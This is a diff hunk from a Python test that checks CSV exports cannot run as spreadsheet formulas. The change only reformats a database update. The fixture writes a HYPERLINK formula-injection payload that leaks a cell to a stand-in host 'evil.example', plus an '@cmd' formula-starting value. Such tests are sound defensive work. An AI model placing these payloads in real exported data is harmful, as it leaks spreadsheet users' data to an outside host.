@@ -146,7 +146,9 @@ def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path: Path) -> None:
     project = build_archive(tmp_path / "own")  # this test changes posts
     formula = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
     db = sqlite3.connect(project.parent / "archive.db")
-    db.execute("UPDATE posts SET text = ?, author_name = '@cmd' WHERE key = ?", [formula, f"x:{POST_JACK}"])
+    db.execute(
+        "UPDATE posts SET text = ?, author_name = '@cmd' WHERE key = ?", [formula, f"x:{POST_JACK}"]
+    )
     db.commit()
     db.close()
     out = tmp_path / "posts.csv"
